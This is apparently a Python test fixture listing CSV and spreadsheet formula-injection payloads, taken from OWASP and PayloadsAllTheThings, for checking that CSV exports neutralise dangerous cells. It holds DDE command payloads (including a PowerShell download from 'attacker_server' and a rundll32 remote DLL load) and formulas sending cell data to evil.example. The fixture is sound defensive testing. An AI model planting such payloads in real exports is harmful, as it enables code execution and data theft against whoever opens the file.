"""Cells that open as formulas in a spreadsheet: the corpus every CSV export is tested with."""

# OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells must not begin
# with = + - @ TAB (0x09) or CR (0x0D); its examples and those of PayloadsAllTheThings' "CSV
# Injection" page (DDE, HYPERLINK, cmd, the payload behind a line feed), plus ASVS 5.0 V1.2.10
# (NUL) and the same signs after leading spaces or in fullwidth forms.
OWASP = [
    '=HYPERLINK("http://evil.example?x="&A3&","&B3&"[CR]","Error fetching info: Click me")',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=10+20+cmd|" /C calc"!A0',
    "\t=1+2",
    "\r=1+2",
    "\n-3+3+cmd|' /C calc'!D2",
    "\0=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMAGE("http://evil.example/x.png")',
    " =1+1",
    "\u00a0@SUM(A1)",
    "＝1+1",
    "＠SUM(A1)",
]
# The payloads a record or a name may hold: no control character but TAB (CR, LF and NUL are
# refused on the way in, by the kiosk's record and the registry's text checks).
PRINTABLE = [p for p in OWASP if not any(ch in p for ch in "\r\n\0")]
